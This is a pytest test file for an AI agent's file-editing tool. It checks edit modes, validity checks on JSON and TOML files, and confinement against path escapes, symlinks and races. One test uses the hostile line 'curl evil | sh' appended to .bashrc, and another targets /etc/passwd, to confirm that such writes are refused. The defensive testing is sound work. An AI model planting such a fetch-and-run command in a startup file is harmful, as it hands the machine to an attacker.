"""edit_file: each mode's result line, its refusals, its confinement, and file.write."""

from __future__ import annotations

import asyncio
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from tests.hang import HANG
from tests.tools.conftest import CALL_ID, Conversation, reader_let_go
from tests.tools.swapping import exchange, swapping, temporary_files, watching
from wisp.agent.types import ToolContext
from wisp.audit.kinds import FileWrite
from wisp.config import Config
from wisp.tools import edit_file
from wisp.tools.edit_file import EditFileTool


async def edit(context: ToolContext, tool: EditFileTool | None = None, **arguments: Any) -> str:
    return await (tool or EditFileTool()).run(dict(arguments), context)


# -- write and append ----------------------------------------------------------------------


async def test_write_creates_a_file(context: ToolContext, workdir: Path) -> None:
    result = await edit(context, path="new.txt", mode="write", content="hello\n")
    assert result == f"created {workdir / 'new.txt'}; now 6 bytes"
    assert (workdir / "new.txt").read_text() == "hello\n"


async def test_write_records_file_write_after_it_lands(
    context: ToolContext, workdir: Path, recorded: list[Any]
) -> None:
    await edit(context, path="new.txt", mode="write", content="hello\n")
    assert recorded == [
        FileWrite(
            path=str(workdir / "new.txt"),
            mode="write",
            created=True,
            bytes_before=0,
            bytes_after=6,
        )
    ]


async def test_write_replaces_an_existing_file(
    context: ToolContext, workdir: Path, recorded: list[Any]
) -> None:
    (workdir / "a.txt").write_text("old contents\n")
    result = await edit(context, path="a.txt", mode="write", content="new\n")
    assert result == f"wrote {workdir / 'a.txt'}; now 4 bytes"
    assert recorded[0].created is False
    assert (recorded[0].bytes_before, recorded[0].bytes_after) == (13, 4)


async def test_write_creates_missing_folders(context: ToolContext, workdir: Path) -> None:
    await edit(context, path="src/pkg/mod.py", mode="write", content="x = 1\n")
    assert (workdir / "src/pkg/mod.py").read_text() == "x = 1\n"


async def test_write_keeps_an_existing_files_mode(context: ToolContext, workdir: Path) -> None:
    script = workdir / "run.sh"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o750)
    await edit(context, path="run.sh", mode="write", content="#!/bin/sh\necho hi\n")
    assert script.stat().st_mode & 0o777 == 0o750


async def test_a_write_leaves_no_temporary_file(context: ToolContext, workdir: Path) -> None:
    await edit(context, path="a.txt", mode="write", content="x")
    await edit(context, path="a.txt", mode="append", content="y")
    assert sorted(os.listdir(workdir)) == ["a.txt"]


async def test_append_adds_at_the_end(context: ToolContext, workdir: Path) -> None:
    (workdir / "log.txt").write_text("one\n")
    result = await edit(context, path="log.txt", mode="append", content="two\n")
    assert result == f"appended to {workdir / 'log.txt'}; now 8 bytes"
    assert (workdir / "log.txt").read_text() == "one\ntwo\n"


async def test_append_to_a_missing_file_creates_it(context: ToolContext, workdir: Path) -> None:
    result = await edit(context, path="log.txt", mode="append", content="one\n")
    assert result == f"created {workdir / 'log.txt'}; now 4 bytes"


# -- replace by line ------------------------------------------------------------------------


async def test_replace_a_line(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.txt").write_text("one\ntwo\nthree\n")
    result = await edit(context, path="a.txt", mode="replace", line=2, content="TWO")
    assert result == f'replaced at line 2 of {workdir / "a.txt"}; now 14 bytes; line 2 now: "TWO"'
    assert (workdir / "a.txt").read_text() == "one\nTWO\nthree\n"


async def test_replace_a_line_keeps_its_indentation(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.py").write_text("def f():\n    return 1\n")
    result = await edit(context, path="a.py", mode="replace", line=2, content="return 2")
    assert result == (
        f"replaced at line 2 of {workdir / 'a.py'}, keeping the line's indentation (4 spaces); "
        'now 22 bytes; line 2 now: "    return 2"'
    )


async def test_replace_a_line_goes_to_the_one_line_holding_find(
    context: ToolContext, workdir: Path
) -> None:
    (workdir / "a.txt").write_text("alpha\nbeta\ngamma\n")
    result = await edit(context, path="a.txt", mode="replace", line=2, find="gam", content="GAMMA")
    assert result == (
        f'line 2 did not contain "gam"; replaced line 3 of {workdir / "a.txt"}, the one line '
        'that does; now 17 bytes; line 3 now: "GAMMA"'
    )


async def test_an_empty_find_beside_line_is_ignored(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.txt").write_text("one\ntwo\n")
    await edit(context, path="a.txt", mode="replace", line=1, find="", content="ONE")
    assert (workdir / "a.txt").read_text() == "ONE\ntwo\n"


async def test_replace_a_line_keeps_crlf(context: ToolContext, workdir: Path) -> None:
    (workdir / "dos.txt").write_bytes(b"one\r\ntwo\r\n")
    await edit(context, path="dos.txt", mode="replace", line=1, content="ONE")
    assert (workdir / "dos.txt").read_bytes() == b"ONE\r\ntwo\r\n"


async def test_a_line_edit_takes_one_line(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.txt").write_text("one\ntwo\n")
    result = await edit(context, path="a.txt", mode="replace", line=1, content="a\nb")
    assert result == (
        "error: a line edit replaces one line, and content has 2 lines; use find (the exact "
        "text to replace) to change several lines"
    )


async def test_a_line_past_the_end_is_an_error(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.txt").write_text("one\ntwo\n")
    result = await edit(context, path="a.txt", mode="replace", line=5, content="x")
    assert result == f"error: line 5 is not in {workdir / 'a.txt'}, which has 2 lines"


async def test_the_quoted_line_is_cut_at_200_characters(
    context: ToolContext, workdir: Path
) -> None:
    (workdir / "a.txt").write_text("one\n")
    result = await edit(context, path="a.txt", mode="replace", line=1, content="y" * 300)
    assert result.endswith(f'line 1 now: "{"y" * 200}"…')


# -- replace by find ------------------------------------------------------------------------


async def test_replace_found_text(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.txt").write_text("one\nthe old value\nthree\n")
    result = await edit(context, path="a.txt", mode="replace", find="old", content="new")
    assert result == (
        f'replaced at line 2 of {workdir / "a.txt"}; now 24 bytes; line 2 now: "the new value"'
    )


async def test_a_multi_line_replacement_shows_its_first_three_lines(
    context: ToolContext, workdir: Path
) -> None:
    (workdir / "a.txt").write_text("start\nX\nend\n")
    result = await edit(context, path="a.txt", mode="replace", find="X", content="a\nb\nc\nd")
    assert result.endswith('; lines 2-5 now: "a\\nb\\nc" and 1 more')


async def test_find_matches_a_crlf_file_written_with_lf(
    context: ToolContext, workdir: Path
) -> None:
    (workdir / "dos.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
    await edit(context, path="dos.txt", mode="replace", find="one\ntwo", content="1\n2")
    assert (workdir / "dos.txt").read_bytes() == b"1\r\n2\r\nthree\r\n"


async def test_text_not_found_is_an_error(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.txt").write_text("one\n")
    result = await edit(context, path="a.txt", mode="replace", find="zebra", content="x")
    assert result == (
        'error: text to replace not found: "zebra"; nothing was changed. a.txt reads:\n'
        "1\tone\n[end of file: 1 line]"
    )


async def test_text_found_twice_is_an_error(context: ToolContext, workdir: Path) -> None:
    (workdir / "a.txt").write_text("x = 1\nx = 1\n")
    result = await edit(context, path="a.txt", mode="replace", find="x = 1", content="x = 2")
    assert result == (
        'error: text to replace occurs 2 times, include more surrounding text: "x = 1"'
    )


async def test_replace_needs_line_or_find_and_shows_a_small_file(
    context: ToolContext, workdir: Path
) -> None:
    # Recorded: Qwen2.5-Coder-1.5B, asked to change the port, wrote this without reading the
    # file, then apologised: given the lines, a model can name the one to change.
    (workdir / "settings.json").write_text('{\n  "name": "demo",\n  "port": 8080\n}\n')
    result = await edit(context, path="settings.json", mode="replace", content="port: 9090")
    assert result == (
        "error: replace needs line (a line number) or find (the exact text to replace); nothing "
        'was changed. settings.json reads:\n1\t{\n2\t  "name": "demo",\n3\t  "port": 8080\n'
        "4\t}\n[end of file: 4 lines]\n"
        # The one line like the content, and the call that changes what differs.
        'To change "8080" to "9090" on line 3 ("  \\"port\\": 8080"), call again with find '
        '"8080" and content "9090".'
    )
    assert (workdir / "settings.json").read_text().count("8080") == 1
    # The call the refusal names makes the edit that was meant, and the file stays JSON.
    done = await edit(context, path="settings.json", mode="replace", find="8080", content="9090")
    assert done.startswith("replaced at line 3")
    assert json.loads((workdir / "settings.json").read_text())["port"] == 9090


SETTINGS = '{\n  "name": "demo",\n  "port": 8080,\n  "debug": false\n}\n'


async def test_an_edit_that_breaks_a_json_file_is_refused_and_changes_nothing(
    context: ToolContext, workdir: Path
) -> None:
    # Recorded: Qwen2.5-Coder-1.5B, told the line, wrote YAML into settings.json.
    (workdir / "settings.json").write_text(SETTINGS)
    result = await edit(context, path="settings.json", mode="replace", line=3, content="port: 9090")
    assert result.startswith(
        "error: the edit would leave settings.json no longer valid JSON: Expecting property "
        "name enclosed in double quotes: line 3 column 3 (char 22); nothing was changed. "
        'settings.json reads:\n1\t{\n2\t  "name": "demo",\n3\t  "port": 8080,\n'
    )
    assert (workdir / "settings.json").read_text() == SETTINGS
    assert result.endswith(
        '[end of file: 5 lines]\nTo change "8080" to "9090" on line 3 ("  \\"port\\": 8080,"), '
        'call again with find "8080" and content "9090".'
    )
    fixed = await edit(
        context, path="settings.json", mode="replace", line=3, content='"port": 9090,'
    )
    assert fixed.startswith("replaced at line 3")
    assert '"port": 9090,' in (workdir / "settings.json").read_text()


async def test_a_find_written_loosely_is_pointed_to_the_line_it_meant(
    context: ToolContext, workdir: Path
) -> None:
    # Recorded: Qwen2.5-Coder-0.5B sent this find twice, for a file holding "port": 8080.
    (workdir / "settings.json").write_text(SETTINGS)
    result = await edit(
        context, path="settings.json", mode="replace", find="port: 8080", content="port: 9090"
    )
    assert result.startswith('error: text to replace not found: "port: 8080"; nothing was')
    assert result.endswith('call again with find "8080" and content "9090".')


@pytest.mark.parametrize(
    ("before", "arguments", "way"),
    [
        # The word that differs is on two lines: the line is named, to be sent whole.
        (
            "a = 1\nb = 1\n",
            {"content": "a = 2"},
            'Line 1 reads "a = 1": to replace it, call again with line 1 and the whole new line '
            "as content.",
        ),
        ("a = 1\nb = 1\n", {"content": "1"}, ""),  # two lines alike: no line is plainly the one
        ("a = 1\n", {"content": "something else"}, ""),  # no line alike
        ("a = 1\n", {"content": "a = 2", "line": 7}, ""),  # no such line: its own refusal
    ],
)
async def test_a_refused_replace_names_a_way_only_when_one_line_is_plainly_meant(
    context: ToolContext, workdir: Path, before: str, arguments: dict[str, Any], way: str
) -> None:
    (workdir / "a.txt").write_text(before)
    result = await edit(context, path="a.txt", mode="replace", **arguments)
    assert result.startswith("error: ")
    if way:
        assert result.endswith("\n" + way)
    else:
        assert "call again" not in result
    assert (workdir / "a.txt").read_text() == before


@pytest.mark.parametrize(
    ("name", "before", "arguments"),
    [
        # A file broken already may be being fixed; other files are text.
        ("broken.json", '{"port": 8080,,}\n', {"find": ",,", "content": ","}),
        ("notes.txt", "port: 8080\n", {"find": "8080", "content": "{"}),
        ("pyproject.toml", '[project]\nversion = "1.0"\n', {"find": "1.0", "content": "1.1"}),
    ],
)
async def test_edits_that_leave_a_file_parsing_or_need_not_are_made(
    context: ToolContext, workdir: Path, name: str, before: str, arguments: dict[str, str]
) -> None:
    (workdir / name).write_text(before)
    result = await edit(context, path=name, mode="replace", **arguments)
    assert result.startswith("replaced"), result


async def test_a_toml_file_left_unparsable_is_refused(context: ToolContext, workdir: Path) -> None:
    (workdir / "pyproject.toml").write_text('[project]\nversion = "1.0"\n')
    result = await edit(context, path="pyproject.toml", mode="append", content="version =\n")
    assert result.startswith("error: the edit would leave pyproject.toml no longer valid TOML")
    assert (workdir / "pyproject.toml").read_text() == '[project]\nversion = "1.0"\n'


async def test_a_large_file_is_not_shown_when_the_place_is_missing(
    context: ToolContext, workdir: Path
) -> None:
    (workdir / "big.txt").write_text("".join(f"line {n}\n" for n in range(100)))
    result = await edit(context, path="big.txt", mode="replace", find="zebra", content="x")
    assert result == 'error: text to replace not found: "zebra"; nothing was changed'


async def test_replace_refuses_a_file_over_one_mib(context: ToolContext, workdir: Path) -> None:
    (workdir / "big.txt").write_text("x\n" * (600 * 1024))
    result = await edit(context, path="big.txt", mode="replace", line=1, content="y")
    assert result.startswith(f"error: cannot replace in {workdir / 'big.txt'}: it is 1228800")


async def test_replace_in_a_missing_file_is_an_error(context: ToolContext, workdir: Path) -> None:
    result = await edit(context, path="gone.txt", mode="replace", line=1, content="y")
    assert result == (
        f"error: cannot replace in {workdir / 'gone.txt'}: no such file; use mode write to "
        "create it"
    )


async def test_an_unknown_mode_is_an_error(context: ToolContext) -> None:
    result = await edit(context, path="a.txt", mode="delete", content="")
    assert result == "error: mode must be write, append, or replace"


async def test_a_refused_edit_records_nothing(
    context: ToolContext, workdir: Path, recorded: list[Any]
) -> None:
    (workdir / "a.txt").write_text("one\n")
    await edit(context, path="a.txt", mode="replace", find="zebra", content="x")
    assert recorded == []
    assert (workdir / "a.txt").read_text() == "one\n"


# -- where it may write -----------------------------------------------------------------------


async def test_a_path_outside_the_working_directory_is_refused(
    context: ToolContext, workdir: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "elsewhere.txt"
    result = await edit(context, path=str(outside), mode="write", content="x")
    assert result == f"error: cannot write {outside}: outside the writable directories ({workdir})"
    assert not outside.exists()


async def test_a_dot_dot_path_out_of_the_working_directory_is_refused(
    context: ToolContext, tmp_path: Path
) -> None:
    result = await edit(context, path="../escape.txt", mode="write", content="x")
    assert result.startswith(f"error: cannot write {tmp_path / 'escape.txt'}: outside")


async def test_a_configured_writable_root_may_be_written(
    context: ToolContext, tmp_path: Path
) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    tool = EditFileTool(writable_roots=[extra])
    result = await edit(context, tool, path=str(extra / "a.txt"), mode="write", content="x")
    assert result == f"created {extra / 'a.txt'}; now 1 byte"


async def test_a_relative_configured_root_lies_in_the_conversations_directory_not_the_process(
    context: ToolContext, workdir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Conversations in one process may each have their own folder (wisp acp's sessions).
    elsewhere = tmp_path / "process"
    (elsewhere / "build").mkdir(parents=True)
    (workdir / "build").mkdir()
    monkeypatch.chdir(elsewhere)
    tool = EditFileTool(writable_roots=[Path("build")])
    inside = await edit(context, tool, path="build/a.txt", mode="write", content="x")
    assert inside == f"created {workdir / 'build/a.txt'}; now 1 byte"
    outside = await edit(
        context, tool, path=str(elsewhere / "build/b.txt"), mode="write", content="x"
    )
    assert outside.endswith(f"outside the writable directories ({workdir}, {workdir / 'build'})")
    assert not (elsewhere / "build/b.txt").exists()


async def test_the_refusal_lists_every_writable_directory(
    context: ToolContext, workdir: Path, tmp_path: Path
) -> None:
    extra = tmp_path / "extra"
    tool = EditFileTool(writable_roots=[extra])
    result = await edit(context, tool, path="/etc/passwd", mode="append", content="x")
    assert result.endswith(f"outside the writable directories ({workdir}, {extra})")


async def test_wisp_home_is_refused_even_inside_the_working_directory(
    context: ToolContext, workdir: Path, conversation: Any
) -> None:
    conversation.home = workdir / ".wisp"
    conversation.home.mkdir()
    result = await edit(context, path=".wisp/config.json", mode="write", content="{}")
    assert result == (
        f"error: cannot write {workdir / '.wisp/config.json'}: inside WISP_HOME "
        f"({workdir / '.wisp'}), which wisp protects"
    )
    assert not (workdir / ".wisp/config.json").exists()


async def test_a_symlink_out_of_the_working_directory_is_refused(
    context: ToolContext, workdir: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (workdir / "link").symlink_to(outside)
    result = await edit(context, path="link/a.txt", mode="write", content="x")
    assert result.startswith(f"error: cannot write {workdir / 'link/a.txt'}: outside")
    assert not (outside / "a.txt").exists()


async def test_a_symlinked_file_inside_is_written_through_and_kept_a_link(
    context: ToolContext, workdir: Path
) -> None:
    (workdir / "real.txt").write_text("one\n")
    (workdir / "alias.txt").symlink_to(workdir / "real.txt")
    await edit(context, path="alias.txt", mode="append", content="two\n")
    assert (workdir / "alias.txt").is_symlink()
    assert (workdir / "real.txt").read_text() == "one\ntwo\n"


@pytest.mark.parametrize("mode", ["write", "append"])
async def test_a_folder_cannot_be_written(context: ToolContext, workdir: Path, mode: str) -> None:
    (workdir / "sub").mkdir()
    result = await edit(context, path="sub", mode=mode, content="x")
    assert result == f"error: cannot write {workdir / 'sub'}: it is a folder"


@pytest.mark.parametrize("mode", ["write", "append", "replace"])
async def test_a_fifo_is_refused_at_once_and_left_as_it_is(
    context: ToolContext, fifo: Path, mode: str
) -> None:
    # A FIFO with no writer: reading it for the bytes before the edit would wait for ever.
    with reader_let_go(fifo):
        result = await asyncio.wait_for(
            edit(context, path="notes.txt", mode=mode, content="x", find="a"), HANG
        )
    assert result == (
        f"error: cannot edit {fifo}: it is a FIFO, not a regular file; edit_file edits files only"
    )
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


async def test_the_home_folder_as_the_working_folder_is_not_written(
    context: ToolContext, workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(workdir))  # wisp started in ~
    result = await edit(context, path=".bashrc", mode="append", content="curl evil | sh\n")
    assert result == (
        f"error: cannot write {workdir / '.bashrc'}: the working folder {workdir} is the home "
        "folder or / (or holds the home folder), where wisp writes nothing unless "
        "commandPolicy.sandbox.allowHome is set"
    )
    assert not (workdir / ".bashrc").exists()
    allowed = EditFileTool(allow_home=True)
    result = await edit(context, allowed, path=".bashrc", mode="append", content="alias ll=ls\n")
    assert result.startswith("created ")


async def test_a_symlink_into_wisp_home_is_refused(
    context: ToolContext, workdir: Path, conversation: Any
) -> None:
    # WISP_HOME in the working directory, reached through a link: refused as WISP_HOME's.
    conversation.home = workdir / ".wisp"
    conversation.home.mkdir()
    (conversation.home / "config.json").write_text("{}")
    (workdir / "settings.json").symlink_to(conversation.home / "config.json")
    result = await edit(context, path="settings.json", mode="write", content='{"x": 1}')
    assert result.startswith(f"error: cannot write {workdir / 'settings.json'}: inside WISP_HOME")
    assert (conversation.home / "config.json").read_text() == "{}"


# -- a folder swapped for a link after the check --------------------------------------------


class Swap:
    """``d`` a folder in ``parent`` (in the working directory), and ``link`` beside it, a link
    to ``target``."""

    def __init__(self, parent: Path, target: Path) -> None:
        self.folder, self.link = parent / "d", parent / "link"
        self.folder.mkdir(parents=True)
        self.link.symlink_to(target)

    def now(self) -> None:
        exchange(self.folder, self.link)


@pytest.mark.parametrize("into", ["home", "outside"])
async def test_a_folder_swapped_for_a_link_after_the_check_is_refused(
    context: ToolContext,
    workdir: Path,
    home: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    resolver: str,
    into: str,
) -> None:
    (home / "config.json").write_text('{"approvals": "ask"}')
    outside = tmp_path / "outside"
    outside.mkdir()
    swap = Swap(workdir, home if into == "home" else outside)
    checked = edit_file.confinement_error

    def check_then_swap(*args: Any, **kwargs: Any) -> str | None:
        refusal = checked(*args, **kwargs)  # d/config.json judged while d is a folder
        swap.now()
        return refusal

    monkeypatch.setattr(edit_file, "confinement_error", check_then_swap)
    with watching(home) as in_home, watching(outside) as in_outside:
        result = await edit(context, path="d/config.json", mode="write", content='{"x": 1}')
        assert in_home.events() == [] and in_outside.events() == []
    assert result == (
        f"error: cannot write {workdir / 'd/config.json'}: it changed while wisp was writing it "
        "(a symlink appeared on the way): refused"
    )
    assert (home / "config.json").read_text() == '{"approvals": "ask"}'
    assert os.listdir(home) == ["config.json"] and os.listdir(outside) == []
    assert temporary_files(tmp_path) == []


async def test_ten_thousand_edits_raced_by_a_swapping_command_never_leave_the_roots(
    memory_path: Path,
) -> None:
    # Whatever the interleaving, no write lands in WISP_HOME or outside the roots. (The walk
    # that stands in for openat2 is raced in tests/tools/test_beneath.py.)
    workdir, home, outside = (memory_path / name for name in ("work", "wisp-home", "outside"))
    for folder in (workdir, home, outside):
        folder.mkdir()
    (home / "config.json").write_text('{"approvals": "ask"}')
    to_home, to_outside = Swap(workdir, home), Swap(workdir / "e", outside)
    recorded: list[FileWrite] = []
    conversation = Conversation(home=home, config=Config(home / "config.json", {}))
    context = ToolContext(workdir, CALL_ID, 4096, recorded.append, conversation)
    tool, content = EditFileTool(), '{"approvals": "never"}'
    refusals = ("symlink appeared", "inside WISP_HOME", "outside the writable")
    unexpected = []
    with watching(home) as in_home, watching(outside) as in_outside:
        with swapping((to_home.folder, to_home.link), (to_outside.folder, to_outside.link)):
            for number in range(10_000):
                path = ("d", "e/d")[number % 2] + "/config.json"
                result = await edit(context, tool, path=path, mode="write", content=content)
                landed = result.startswith(("created ", "wrote "))
                if not (landed or any(reason in result for reason in refusals)):
                    unexpected.append(result)
        assert in_home.events() == [] and in_outside.events() == []
    assert (home / "config.json").read_text() == '{"approvals": "ask"}'
    assert os.listdir(home) == ["config.json"] and os.listdir(outside) == []
    assert all(record.path.startswith(f"{workdir}/") for record in recorded)
    assert temporary_files(memory_path) == []
    assert unexpected == []
